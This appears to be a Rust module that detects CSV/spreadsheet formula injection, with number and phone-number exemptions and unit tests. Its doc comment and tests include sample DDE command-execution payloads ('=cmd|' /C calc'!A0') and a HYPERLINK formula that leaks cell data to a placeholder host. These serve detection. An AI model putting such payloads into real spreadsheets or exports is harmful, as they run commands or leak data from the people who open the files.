//! Detection of spreadsheet formula injection (CSV injection) in cells.
//!
//! Spreadsheet programs read a cell that starts with `=`, `+`, `-` or `@` as a formula when a
//! CSV file is opened. A formula can run commands through DDE (`=cmd|' /C calc'!A0`) or send
//! data away (`=HYPERLINK(...)`). The trigger list also has tab, carriage return and NUL:
//! OWASP ASVS 5.0 requirement 1.2.10 names tab and NUL, and OWASP's CSV injection guidance
//! names tab and carriage return.

/// Leading bytes that make a spreadsheet read a cell as a formula.
const TRIGGERS: &[u8] = b"=+-@\t\r\0";

/// Minimum number of digits in a value accepted as a phone number, so that `+-`, `+()` and
/// short arithmetic such as `+1-2` are not mistaken for one.
const MIN_PHONE_DIGITS: usize = 5;

/// Returns `true` when a spreadsheet could run `cell` as a formula.
///
/// A cell is flagged when it starts with `=`, `+`, `-`, `@`, tab, carriage return or NUL.
/// Two kinds of cell are exempt. One is a plain number (`-12.5`, `+3`, `-1e5`, `-.5`). The
/// other is a phone number: a leading `+` followed only by digits, spaces, `(`, `)`, `.` and
/// `-`, with at least five digits, and optionally an extension such as ` ext. 71` or ` x71`.
pub fn is_formula(cell: &str) -> bool {
    let Some(first) = cell.bytes().next() else {
        return false;
    };
    if !TRIGGERS.contains(&first) {
        return false;
    }
    !(is_plain_number(cell) || is_phone_number(cell))
}

/// Returns whether `cell` is a decimal number with an optional sign and exponent.
fn is_plain_number(cell: &str) -> bool {
    let bytes = cell.as_bytes();
    let mut at = usize::from(matches!(bytes.first(), Some(b'+' | b'-')));

    let integer_digits = count_digits(bytes, at);
    at += integer_digits;
    let mut fraction_digits = 0;
    if bytes.get(at) == Some(&b'.') {
        at += 1;
        fraction_digits = count_digits(bytes, at);
        at += fraction_digits;
    }
    if integer_digits + fraction_digits == 0 {
        return false;
    }

    if matches!(bytes.get(at), Some(b'e' | b'E')) {
        at += 1;
        at += usize::from(matches!(bytes.get(at), Some(b'+' | b'-')));
        let exponent_digits = count_digits(bytes, at);
        if exponent_digits == 0 {
            return false;
        }
        at += exponent_digits;
    }
    at == bytes.len()
}

fn count_digits(bytes: &[u8], from: usize) -> usize {
    bytes.get(from..).map_or(0, |rest| rest.iter().take_while(|b| b.is_ascii_digit()).count())
}

/// Returns whether `cell` looks like an international phone number such as `+1 (555) 010-0100`
/// or `+1-412-555-0186 ext. 71`.
fn is_phone_number(cell: &str) -> bool {
    let Some(rest) = cell.strip_prefix('+') else {
        return false;
    };
    let rest = strip_extension(rest);
    let allowed = |b: &u8| b.is_ascii_digit() || matches!(b, b' ' | b'(' | b')' | b'.' | b'-');
    let digits = rest.bytes().filter(u8::is_ascii_digit).count();
    rest.bytes().all(|b| allowed(&b)) && digits >= MIN_PHONE_DIGITS
}

/// Removes a trailing phone extension (`ext. 71`, `ext 71`, `x71`) with the spaces before it.
fn strip_extension(number: &str) -> &str {
    let digits_start = number.trim_end_matches(|c: char| c.is_ascii_digit()).len();
    if digits_start == number.len() {
        return number;
    }
    let before = number[..digits_start].trim_end_matches(' ');
    let marker = ["ext.", "ext", "x"].into_iter().find(|marker| before.to_ascii_lowercase().ends_with(marker));
    match marker {
        Some(marker) if before.len() > marker.len() => before[..before.len() - marker.len()].trim_end_matches(' '),
        _ => number,
    }
}

/// Returns whether `bytes` has a `,`, `;`, tab or `|` followed by `=`, `+`, `-` or `@`, the
/// pair after which the upload validator checks the rest of a cell for a formula.
///
/// It folds with non-short-circuit `|` and `&` and has no early exit, so the compiler
/// vectorizes it, and most cells, which have no such pair, skip the per-pair loop.
pub(crate) fn has_delimiter_before_operator(bytes: &[u8]) -> bool {
    let following = bytes.get(1..).unwrap_or_default();
    bytes.iter().zip(following).fold(false, |found, (&first, &second)| {
        let delimiter = (first == b',') | (first == b';') | (first == b'\t') | (first == b'|');
        let operator = (second == b'=') | (second == b'+') | (second == b'-') | (second == b'@');
        found | (delimiter & operator)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_flagged() {
        let cells = [
            "=1+1",
            "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"click\")",
            "@SUM(A1)",
            "-2+3+cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "=cmd|' /C notepad'!'A1'",
            "\t=1",
            "\r=1",
            "\0=1",
            "\t",
            "+",
            "-",
            "=",
            "@",
            "-1e",
            "+.",
            "-1.2.3",
            "+1 (555) 010-0100 x",
            "+1-2",
            "-555 0100",
        ];
        for cell in cells {
            assert!(is_formula(cell), "{cell:?} should be flagged");
        }
    }

    #[test]
    fn numbers_pass() {
        for cell in ["-12.5", "+3", "-1e5", "-.5", "+0.25E-3", "-7.", "+1e+9", "-0"] {
            assert!(!is_formula(cell), "{cell:?} should pass");
        }
    }

    #[test]
    fn phone_numbers_pass() {
        for cell in ["+1 (555) 010-0100", "+44 20 7946 0000", "+33.1.23.45.67.89", "+4915550100"] {
            assert!(!is_formula(cell), "{cell:?} should pass");
        }
    }

    #[test]
    fn phone_extensions_pass() {
        for cell in ["+1-412-555-0186 ext. 71", "+1 (724) 555-0157 ext 43", "+1 555 0100 x12", "+1 555 0100 EXT. 9"] {
            assert!(!is_formula(cell), "{cell:?} should pass");
        }
        for cell in ["+1 ext. 71", "+1 555 0100 ext.", "+cmd x1", "+1 555 0100 ext. 7!A0", "+1 555 0100 extra 1"] {
            assert!(is_formula(cell), "{cell:?} should be flagged");
        }
    }

    #[test]
    fn ordinary_cells_pass() {
        let cells = ["", "hello", "1+1", "a=b", " =1", "email@example.invalid", "x-y", "’=1"];
        for cell in cells {
            assert!(!is_formula(cell), "{cell:?} should pass");
        }
    }

    #[test]
    fn delimiter_pair_matches_pairwise_loop() {
        let pieces: &[&[u8]] = &[b",", b";", b"\t", b"|", b"=", b"+", b"-", b"@", b"a", b" ", b"(", "é".as_bytes()];
        let mut state: u64 = 7;
        for _ in 0..20_000 {
            state = state.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
            let len = (state >> 59) as usize;
            let mut cell = Vec::new();
            for shift in 0..len {
                cell.extend_from_slice(pieces[(state >> (shift * 4 % 56)) as usize % pieces.len()]);
            }
            let expected = cell.windows(2).any(|pair| {
                matches!(pair[0], b',' | b';' | b'\t' | b'|') && matches!(pair[1], b'=' | b'+' | b'-' | b'@')
            });
            assert_eq!(has_delimiter_before_operator(&cell), expected, "{cell:?}");
        }
    }
}
